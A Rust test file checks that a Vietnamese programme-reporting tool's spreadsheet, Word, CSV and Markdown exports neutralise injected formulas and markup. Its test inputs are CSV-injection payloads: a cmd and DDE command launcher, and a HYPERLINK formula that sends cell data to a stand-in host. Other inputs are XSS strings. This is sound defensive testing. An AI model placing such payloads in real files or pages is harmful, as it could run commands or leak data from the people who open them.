//! What goes out for spreadsheets and word processors reckons nothing, calls
//! nobody and runs nothing, whatever words are in it.

use std::io::{Cursor, Read};

use calamine::{Data, Reader, Xlsx};
use tiendo::collect::{collect, read as read_sheet, update_sheet};
use tiendo::document::{Lexicon, read};
use tiendo::domain::{Board, Change, Entry, Evidence, Key, Programme, ProgrammeId, Report, Unit};
use tiendo::report::layout::Layout;
use tiendo::report::office::Office;
use tiendo::report::paper::docx::docx;
use tiendo::report::paper::markdown::markdown;
use tiendo::report::phrase::Phrase;
use tiendo::report::quarter::{self, Quarterly};
use tiendo::report::rows::Listing;
use tiendo::report::xlsx::workbook;
use tiendo::runtime::data::Data as Files;
use tiendo::runtime::layouts::layout;
use tiendo::words::{Language, Words};

const DAY: &str = "2026-09-25";

/// Beginnings that a spreadsheet takes for a formula or an order, and what is
/// put before them so that nobody sees it (OWASP, "CSV injection").
const FORMULAS: [&str; 16] = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u{a0}=1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "＝1+1",
    "＋1",
    "=HYPERLINK(\"http://x.example/?\"&A1,\"xem\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "http://x.example/",
    "{=1+1}",
];

fn words() -> Words {
    Words::embedded(Language::Vietnamese)
}

/// A programme in which every name is such a beginning.
fn programme(formula: &str) -> Programme {
    let text = "CHƯƠNG TRÌNH\nI. VIỆC\n1. Mô hình: Sạch\n- Mục tiêu: đẹp\n- Chủ trì: Công an phường\n\
        - Thời gian: Quý II/2026\n2. Hằng quý, Công an phường báo cáo.\n";
    let id = ProgrammeId::new("x");
    let mut programme = read("x.txt", text.as_bytes(), id, Lexicon::embedded()).expect("read");
    formula.clone_into(&mut programme.title);
    formula.clone_into(&mut programme.short_title);
    for unit in &mut programme.units {
        formula.clone_into(&mut unit.name);
    }
    for node in &mut programme.nodes {
        formula.clone_into(&mut node.title);
        formula.clone_into(&mut node.text);
    }
    programme
}

fn ledger(formula: &str) -> Vec<Entry> {
    let after = Report {
        note: formula.to_owned(),
        obstacle: formula.to_owned(),
        evidence: Some(Evidence { number: formula.to_owned(), date: None }),
        period: "2026-Q3".parse().ok(),
        ..Report::default()
    };
    let change = Change::Updated { key: Key::new("I.1"), before: Report::default(), after };
    let at = format!("{DAY}T09:00:00+07:00").parse().expect("a moment");
    vec![Entry { seq: 1, at, by: formula.to_owned(), programme: ProgrammeId::new("x"), change }]
}

/// Everything that goes out of it: workbook, update sheet, report, list.
struct Papers {
    packages: Vec<Vec<u8>>,
    csv: String,
    markdown: Vec<String>,
}

fn form() -> Layout {
    layout(&Files::default(), None).expect("the built-in form").0
}

fn papers(formula: &str) -> Papers {
    let (words, programme, ledger) = (words(), programme(formula), ledger(formula));
    let board = Board::fold(&programme, &ledger, DAY.parse().expect("a day"));
    let folded = [(&programme, &board)];
    let quarter = board.shown_quarter();
    let phrase = Phrase { words: &words, programme: &programme, board: &board };
    let items: Vec<_> = programme.items().map(|item| (phrase, item)).collect();
    let listing = Listing::items(&words, formula.to_owned(), formula.to_owned(), quarter, &items);
    let quarterly = Quarterly::of(&programme, &ledger, quarter, board.clone(), board.clone());
    let paper = quarter::paper(&words, &[quarterly], &form(), &Office::default());
    Papers {
        packages: vec![
            workbook(&words, &folded, &programme.units, &ledger).expect("a workbook"),
            update_sheet(&words, &folded, unit(&programme)).expect("a sheet"),
            docx(&paper, &form()).expect("a document"),
            listing.docx(&form()).expect("a document"),
        ],
        csv: String::from_utf8(listing.csv(&words)).expect("UTF-8"),
        markdown: vec![markdown(&paper, &form()), listing.markdown()],
    }
}

fn unit(programme: &Programme) -> &Unit {
    let led = |unit: &&Unit| {
        programme.items().any(|item| item.lead().iter().any(|lead| lead.unit == unit.id))
    };
    programme.units.iter().find(led).expect("a unit that leads")
}

#[test]
fn no_package_reckons_calls_or_links() {
    for formula in FORMULAS {
        for bytes in papers(formula).packages {
            let mut zip = zip::ZipArchive::new(Cursor::new(&bytes)).expect("a package");
            for at in 0..zip.len() {
                let mut part = zip.by_index(at).expect("a part");
                let name = part.name().expect("a name").to_string();
                assert!(!name.contains("externalLink") && !name.contains("vba"), "{name}");
                let mut text = String::new();
                part.read_to_string(&mut text).expect("text");
                for order in [
                    "<f>",
                    "<f ",
                    "<hyperlink",
                    "<w:hyperlink",
                    "TargetMode",
                    "ddeLink",
                    "externalReference",
                    "<w:object",
                    "w:altChunk",
                ] {
                    assert!(!text.contains(order), "{formula}: {order} in {name}");
                }
                // Fields of Word count pages and nothing else.
                for field in text.split("<w:instrText").skip(1) {
                    let order = field.split_once('>').map_or("", |(_, rest)| rest);
                    let order = order.split('<').next().unwrap_or_default().trim();
                    assert!(order.starts_with("PAGE"), "{formula}: field {order} in {name}");
                }
            }
        }
    }
}

#[test]
fn a_reader_of_workbooks_sees_texts_as_they_were_written() {
    for formula in FORMULAS {
        let papers = papers(formula);
        // Blanks around a cell are left out.
        let seen = tiendo::text::visible(formula.trim());
        for bytes in &papers.packages[..2] {
            let mut book = Xlsx::new(Cursor::new(bytes)).expect("a workbook");
            let mut count = 0;
            for name in book.sheet_names() {
                assert!(book.worksheet_formula(&name).expect("a sheet").cells().next().is_none());
                let range = book.worksheet_range(&name).expect("a sheet");
                let texts = range.used_cells().filter_map(|(_, _, cell)| match cell {
                    Data::String(text) => Some(text.as_str()),
                    _ => None,
                });
                count += texts.filter(|text| text.contains(seen.trim())).count();
            }
            assert!(count > 0, "{formula:?} is nowhere to be read");
        }
    }
}

/// The cells of a CSV, as a spreadsheet takes them apart.
fn cells(csv: &str) -> Vec<String> {
    let (mut cells, mut cell, mut is_quoted) = (Vec::new(), String::new(), false);
    for c in csv.trim_start_matches('\u{FEFF}').chars() {
        match c {
            '"' => is_quoted = !is_quoted,
            ';' | '\n' if !is_quoted => cells.push(std::mem::take(&mut cell)),
            '\r' if !is_quoted => {}
            _ => cell.push(c),
        }
    }
    cells
}

#[test]
fn no_cell_of_a_list_begins_as_a_formula() {
    for formula in FORMULAS {
        let csv = papers(formula).csv;
        let all = cells(&csv);
        for cell in &all {
            let first = cell.trim_start().chars().next();
            let reckons = first.is_some_and(|c| "=+-@＝＋－＠\t\r|%".contains(c));
            assert!(!reckons, "{cell:?} of {formula:?}");
            assert!(!cell.chars().any(|c| c.is_control() && c != '\n'), "{cell:?}");
        }
        let seen = tiendo::text::visible(formula).replace('"', "");
        assert!(all.iter().any(|cell| cell.contains(seen.trim())), "{formula:?} in {csv}");
    }
}

#[test]
fn no_mark_of_markdown_becomes_a_link_or_a_tag() {
    for text in ["[xem](javascript:alert(1))", "<img src=x onerror=alert(1)>", "![](http://x/)"] {
        for paper in papers(text).markdown {
            let events = paper.replace("\\[", "").replace("\\]", "").replace("\\<", "");
            assert!(!events.contains('[') && !events.contains("<img"), "{paper}");
        }
    }
}

#[test]
fn a_sheet_that_comes_back_brings_no_guard_with_it() {
    let day = DAY.parse().expect("a day");
    for formula in FORMULAS {
        let (words, programme, ledger) = (words(), programme(formula), ledger(formula));
        let board = Board::fold(&programme, &ledger, day);
        let folded = [(&programme, &board)];
        let bytes = update_sheet(&words, &folded, unit(&programme)).expect("a sheet");
        let returned = read_sheet(&words, &bytes).expect("our own sheet");
        for collected in collect(&folded, &returned, day) {
            assert_eq!(collected.proposals, [], "{formula:?}");
            assert_eq!(collected.remarks, [], "{formula:?}");
        }
    }
}

#[test]
fn a_title_with_signs_of_orders_breaks_no_workbook() {
    for title in ["&G&A\u{1b}[2J\u{0}\u{ffff}", "]]></x>&lt;", "\u{202e}\u{200b}"] {
        for bytes in papers(title).packages {
            let mut zip = zip::ZipArchive::new(Cursor::new(&bytes)).expect("a package");
            for at in 0..zip.len() {
                let mut part = zip.by_index(at).expect("a part");
                let mut text = String::new();
                part.read_to_string(&mut text).expect("text");
                let sign = text.chars().find(|c| {
                    (c.is_control() && !matches!(c, '\n' | '\t' | '\r')) || *c == '\u{ffff}'
                });
                assert!(sign.is_none(), "{sign:?} in {:?}", part.name());
                let mut reader = quick_xml::Reader::from_str(&text);
                while !matches!(reader.read_event().expect("XML"), quick_xml::events::Event::Eof) {}
            }
        }
    }
}
